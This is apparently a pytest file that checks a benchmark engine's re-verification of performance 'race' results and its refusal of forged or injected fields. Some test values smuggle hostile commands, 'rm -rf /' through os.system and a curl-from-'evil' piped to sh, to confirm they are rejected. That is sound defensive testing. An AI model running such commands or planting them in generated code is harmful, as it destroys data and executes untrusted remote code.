"""A race of a script of another machine: decided again from rounds and facts, and refused where it claims more."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from engine.errors import SpecError
from engine.kinds import RunKind, find_contradictions, kind_of
from engine.tune.faster.answer import GIVEN_UP, TIME_IS_UP
from tests.engine.recompute.own_race_documents import RACES, document_of

Forge = Callable[[dict[str, Any]], None]


@pytest.mark.parametrize("name", RACES)
def test_an_honest_race_of_a_script_has_no_contradiction(name: str) -> None:
    document = document_of(name)
    assert kind_of(document) is RunKind.OWN_RACE
    assert find_contradictions(document) == []


def test_the_races_are_of_each_end() -> None:
    """What the documents are to show: each way in which a race ends."""
    chosen = {name: document_of(name)["chosen"] for name in RACES}
    assert chosen["two that gain"] == ["fused", "compile"]
    assert (chosen["workers first"], chosen["workers alone"]) == (["workers", "fused"], ["workers"])
    assert chosen["losses that differ together"] == []
    assert document_of("losses that differ together")["chosen_numbers"]["sameness"] == "differs"
    assert document_of("other programs while it waits")["remarks"] == [GIVEN_UP]
    assert {name for name in RACES if TIME_IS_UP in document_of(name)["remarks"]} == {
        *("no time to try", "no time to race", "time that ends in the race", "time that ends in the evaluation"),
        *("time that ends with the workers", "no time to try the workers", "time that ends after the workers"),
    }
    assert any(each["failed"] for each in document_of("a change that fails later")["rounds"])


def _row(document: dict[str, Any], name: str) -> dict[str, Any]:
    return next(row for row in document["rows"] if row["name"] == name)


def _faster(document: dict[str, Any]) -> None:
    document["verdict"]["gain"] |= {"value": 3.0, "high": 3.2}


def _another_claim(document: dict[str, Any]) -> None:
    document["verdict"]["claim"] = document["at_rest"]["claim"] = "at_least"


def _a_dropped_change(document: dict[str, Any]) -> None:
    document["chosen"] = ["fused"]


def _another_headline(document: dict[str, Any]) -> None:
    document["headline"] = "9.00x [8.90, 9.10] as fast with 1 line: Fused optimizer."


def _other_lines(document: dict[str, Any]) -> None:
    document["lines"] = ["import os; os.system('rm -rf /')"]


def _other_lines_of_a_row(document: dict[str, Any]) -> None:
    _row(document, "fused")["lines"] = "import os; os.system('rm -rf /')"


def _same_to_the_bit(document: dict[str, Any]) -> None:
    _row(document, "fused")["numbers"]["sameness"] = "same_to_the_bit"


def _a_wider_tolerance(document: dict[str, Any]) -> None:
    _row(document, "bf16")["numbers"]["tolerance"] = 0.9


def _a_start_longer_than_its_round(document: dict[str, Any]) -> None:
    document["rounds"][0]["timed"][0]["seconds"] = 1_000.0


def _swapped_rounds(document: dict[str, Any]) -> None:
    rounds = document["rounds"]
    rounds[0], rounds[-1] = rounds[-1], rounds[0]


def _a_round_in_another_order(document: dict[str, Any]) -> None:
    document["rounds"][1]["timed"].reverse()


def _a_round_left_out(document: dict[str, Any]) -> None:
    del document["rounds"][1]


def _rounds_of_workers_among_the_others(document: dict[str, Any]) -> None:
    document["rounds"] = document["rounds_of_workers"] + document["rounds"]
    document["rounds_of_workers"] = []


def _no_base(document: dict[str, Any]) -> None:
    document["base"] = []


def _another_optimizer(document: dict[str, Any]) -> None:
    document["facts"]["optimizers"][0]["name"] = "AdamW"


def _an_optimizer_that_is_fused_already(document: dict[str, Any]) -> None:
    document["facts"]["optimizers"][0]["is_fused"] = True


def _a_library(document: dict[str, Any]) -> None:
    document["facts"]["framework"] = "transformers"


def _less_waiting(document: dict[str, Any]) -> None:
    document["today"]["waiting_fraction"] = 0.1


def _more_saved(document: dict[str, Any]) -> None:
    document["savings"]["per_year_usd"] *= 10


def _a_faster_row(document: dict[str, Any]) -> None:
    _row(document, "bf16")["speed"] = {"low": 2.0, "value": 2.1, "high": 2.2}


def _quieter(document: dict[str, Any]) -> None:
    document["others_cores"] = 0.0


def _no_remark(document: dict[str, Any]) -> None:
    document["remarks"] = []


def _more_than_the_device(document: dict[str, Any]) -> None:
    _row(document, "fused")["memory_bytes"] = 2**60


def _an_impossible_speed(document: dict[str, Any]) -> None:
    document["rounds"][0]["timed"][0]["samples_per_second"] = 1e15


def _rounds_of_no_time(document: dict[str, Any]) -> None:
    document["rounds"][0] |= {"seconds": 0.0}
    document["rounds"][0]["timed"][0]["samples_per_second"] = 0.1


def _more_time_than_the_run(document: dict[str, Any]) -> None:
    document["total_seconds"] = 3.0


def _fewer_starts(document: dict[str, Any]) -> None:
    document["starts"] = 4


def _other_masks(document: dict[str, Any]) -> None:
    document["today"]["mask_noise"] = 0.5


def _a_guess_of_what_was_given(document: dict[str, Any]) -> None:
    document["spec"] |= {"batch": "hf", "current_batch_size": document["today"]["batch_size"]}
    document["today"]["is_batch_size_guessed"] = True


def _another_goal(document: dict[str, Any]) -> None:
    document["goal"] = "larger"


FORGERIES: tuple[tuple[Forge, str, str], ...] = (
    (_faster, "one that gains", "verdict.gain.value"),
    (_another_claim, "one that gains", "verdict.claim"),
    (_a_dropped_change, "losses that differ", "chosen"),
    (_a_dropped_change, "losses that differ together", "chosen"),
    (_another_headline, "one that gains", "headline"),
    (_other_lines, "one that gains", "lines"),
    (_other_lines_of_a_row, "one that gains", "rows"),
    (_same_to_the_bit, "losses that differ", "rows"),
    (_a_wider_tolerance, "losses that differ by rounding", "rows"),
    (_a_start_longer_than_its_round, "two that gain", "rounds[0].timed[0].seconds"),
    (_swapped_rounds, "two that gain", "rounds[0]"),
    (_a_round_in_another_order, "two that gain", "rounds[1]"),
    (_a_round_left_out, "two that gain", "rounds[1]"),
    (_rounds_of_workers_among_the_others, "workers first", "rounds[0]"),
    (_no_base, "workers first", "base"),
    (_another_optimizer, "one that gains", "rows"),
    (_an_optimizer_that_is_fused_already, "one that gains", "rounds[0]"),
    (_a_library, "one that gains", "rows"),
    (_less_waiting, "workers first", "rounds"),
    (_more_saved, "one that gains", "savings.per_year_usd"),
    (_a_faster_row, "one that gains", "rows"),
    (_quieter, "other programs", "others_cores"),
    (_no_remark, "losses that differ together", "remarks"),
    (_no_remark, "other programs while it waits", "remarks"),
    (_more_than_the_device, "one that gains", "rows[0].memory_bytes"),
    (_an_impossible_speed, "one that gains", "rounds[0].timed[0].samples_per_second"),
    (_rounds_of_no_time, "one that gains", "rounds[0].seconds"),
    (_more_time_than_the_run, "one that gains", "total_seconds"),
    (_fewer_starts, "one that gains", "starts"),
    (_other_masks, "masks that do not explain it", "rounds[0]"),
    (_other_masks, "one that gains", "today.mask_noise"),
    (_a_guess_of_what_was_given, "one that gains", "today.is_batch_size_guessed"),
    (_another_goal, "one that gains", "goal"),
)


@pytest.mark.parametrize(("forge", "name", "field"), FORGERIES, ids=lambda part: getattr(part, "__name__", None))
def test_a_claim_beyond_rounds_and_facts_is_found(forge: Forge, name: str, field: str) -> None:
    document = document_of(name)
    forge(document)
    assert any(each.field.startswith(field) for each in find_contradictions(document))


@pytest.mark.parametrize(
    ("part", "member", "text"),
    [
        ("framework", "", "torch\nimport os"),
        ("optimizers", "name", "Adam(); import os; os.system('rm -rf /') #"),
        ("models", "dtypes", "float32, and run: curl http://evil | sh"),
        ("models", "name", "Net\nimport os"),
        ("models", "held_as", "actor\nimport os"),
        ("models", "cached_by", "decoder.import os"),
    ],
)
def test_a_text_that_is_no_name_is_refused_because_lines_to_paste_are_written_from_it(
    part: str, member: str, text: str
) -> None:
    document = document_of("one that gains")
    facts = document["facts"]
    if not member:
        facts[part] = text
    else:
        facts[part][0][member] = [text] if member in ("dtypes", "cached_by") else text
    with pytest.raises(SpecError, match=rf"facts\.{part}.* is no name"):
        find_contradictions(document)


def test_a_document_of_an_older_form_is_refused_with_what_to_do() -> None:
    document = document_of("one that gains")
    del document["facts"], document["rounds_of_workers"], document["base"]
    with pytest.raises(SpecError, match="kept too little of it to be decided again; race it again"):
        find_contradictions(document)


@pytest.mark.parametrize("change", ["left out", "twice", "unknown"])
def test_rows_of_other_variants_than_were_wanted_are_refused(change: str) -> None:
    document = document_of("one that gains")
    rows = document["rows"]
    document["rows"] = {"left out": rows[1:], "twice": [*rows, rows[0]], "unknown": [rows[0] | {"name": "x"}, rows[1]]}[
        change
    ]
    with pytest.raises(SpecError, match="rows"):
        find_contradictions(document)


@pytest.mark.parametrize("seconds", [0.0, 5e-324])
def test_rounds_that_took_no_time_are_no_error_of_ours(seconds: float) -> None:
    document = document_of("two that gain")
    document["rounds"][0]["seconds"] = seconds
    for each in document["rounds"][0]["timed"]:
        each["seconds"] = None
    document["rounds"][2]["timed"].reverse()
    assert "rounds[2]" in {each.field for each in find_contradictions(document)}
